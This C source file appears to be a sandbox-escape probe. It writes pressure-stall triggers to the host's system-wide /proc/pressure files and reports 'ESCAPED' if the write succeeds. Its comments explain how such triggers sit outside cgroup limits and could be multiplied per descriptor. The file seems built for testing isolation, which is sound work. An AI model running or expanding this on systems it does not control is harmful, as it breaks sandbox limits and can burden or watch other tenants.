/*
 * psi.c -- ATTACK: register pressure-stall triggers on the host's whole system.
 *
 * /proc/pressure/{cpu,memory,io} are world-writable: writing "some|full STALL_US WINDOW_US"
 * (a 2 s window needs no privilege) registers a trigger on the *system-wide* PSI group, a kernel
 * object outside every cgroup limit (allocated uncharged), that wakes its poller when the host
 * — other sandboxes included — stalls: one per open descriptor, as many as the run may open.
 *
 * Usage: ./psi MARKER
 *   prints, per file, "ABSENT <file>" (no PSI here), "BLOCKED <file> <errno>" (could not open it
 *   for writing or the write failed) or "ESCAPED: a trigger on the host's <file>".
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    const char *files[] = {"/proc/pressure/cpu", "/proc/pressure/memory", "/proc/pressure/io"};
    const char trigger[] = "some 500000 2000000";
    for (int i = 0; i < 3; i++) {
        int fd = open(files[i], O_RDWR | O_NONBLOCK | O_CLOEXEC);
        if (fd < 0) {
            if (errno == ENOENT) printf("ABSENT %s\n", files[i]);
            else printf("BLOCKED %s open %s\n", files[i], strerror(errno));
            continue;
        }
        if (write(fd, trigger, sizeof trigger) >= 0) printf("ESCAPED: a trigger on the host's %s\n", files[i]);
        else printf("BLOCKED %s write %s\n", files[i], strerror(errno));
        close(fd);
    }
    return 0;
}
